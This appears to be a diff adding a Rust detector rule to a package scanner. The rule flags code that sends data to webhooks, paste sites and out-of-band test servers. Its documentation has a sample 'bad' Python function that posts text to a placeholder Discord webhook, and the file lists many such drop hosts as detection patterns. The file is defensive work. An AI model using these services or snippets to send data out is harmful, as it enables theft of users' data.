@@ -1,0 +1,139 @@
+//! A host that thieves use as a letter box.
+
+use bulkhead_core::{Confidence, FindingContext, Severity};
+
+use super::code::{Rule, say, when};
+use crate::archive::Archive;
+use crate::behaviour::{Ability, unasked};
+use crate::detector::Meta;
+use crate::findings::Findings;
+
+const META: Meta = Meta {
+    id: "drop-service",
+    title: "a host that thieves use as a letter box",
+    severity: Severity::Low,
+    confidence: Confidence::Low,
+    doc: "\
+Webhooks, chat bots, paste and file-share services and out-of-band test servers are where stolen data is sent, because anybody can have one. Honest
+integrations name them too, so alone it only adds to the score.
+
+```recipe bad
+archive demo-1.0-py3-none-any.whl
+--- demo/send.py
+import requests
+def send(text):
+    requests.post('https://discord.com/api/webhooks/1/x', json={'content': text})
+```
+
+```recipe good
+archive demo-1.0-py3-none-any.whl
+--- demo/send.py
+import requests
+def send(text):
+    requests.post('https://api.example/messages', json={'content': text})
+```
+
+What to do: see who owns the address.
+",
+};
+
+/// See its `META`.
+pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };
+
+fn check(archive: &Archive, findings: &mut Findings) {
+    for behaviour in &archive.code.behaviours {
+        if !matches!(behaviour.effect.ability, Ability::Network | Ability::Download | Ability::Dns | Ability::Spawn) {
+            continue;
+        }
+        let detail = behaviour.effect.detail.as_deref().unwrap_or_default();
+        if let Some(service) = HOOKS.iter().chain(BOXES).find(|service| detail.contains(*service)) {
+            let weight = match unasked(behaviour.context) {
+                true => (Severity::High, Confidence::High),
+                false => (Severity::Medium, Confidence::Low),
+            };
+            say(
+                findings,
+                &META,
+                behaviour,
+                weight,
+                format!("data can go to a letter box (`{service}`) {}", when(behaviour.context)),
+            );
+        }
+    }
+    for view in &archive.code.views {
+        for (host, line) in &view.literals.hosts {
+            if BOXES.iter().any(|service| host.ends_with(service) || host.contains(service)) {
+                findings
+                    .report(&META, format!("`{host}` is a place where anybody can receive data"))
+                    .at(&view.path)
+                    .line(*line)
+                    .context(FindingContext::Call)
+                    .confidence(Confidence::Medium)
+                    .add();
+            }
+        }
+    }
+}
+
+/// Addresses whose path tells: the host alone is everyday.
+const HOOKS: &[&str] = &[
+    "discord.com/api/webhooks",
+    "discordapp.com/api/webhooks",
+    "api.telegram.org/bot",
+    "hooks.slack.com/services",
+    "canary.discord.com/api",
+    "ptb.discord.com/api",
+    "cdn.discordapp.com/attachments",
+    "pastebin.com/raw",
+    "raw.githubusercontent.com",
+    "gist.githubusercontent.com",
+];
+
+/// Hosts.
+const BOXES: &[&str] = &[
+    "webhook.site",
+    "oastify.com",
+    "burpcollaborator.net",
+    "interact.sh",
+    "oast.fun",
+    "oast.me",
+    "oast.pro",
+    "oast.live",
+    "oast.site",
+    "oast.online",
+    "pipedream.net",
+    "requestbin",
+    "hookbin.com",
+    "beeceptor.com",
+    "canarytokens",
+    "ngrok",
+    "transfer.sh",
+    "file.io",
+    "anonfiles.com",
+    "gofile.io",
+    "paste.ee",
+    "hastebin",
+    "rentry.co",
+    "termbin.com",
+    "dnslog.cn",
+    "ceye.io",
+    "bxss.in",
+    "requestcatcher.com",
+    "loca.lt",
+    "trycloudflare.com",
+    "serveo.net",
+    "dpaste.",
+    "catbox.moe",
+    "temp.sh",
+    "bashupload.com",
+    "store1.gofile.io",
+    "0x0.st",
+    "eu.org",
+    "duckdns.org",
+    "repl.co",
+    "glitch.me",
+    "grabify",
+    "iplogger",
+    "onion",
+    "api.mocki.io",
+];
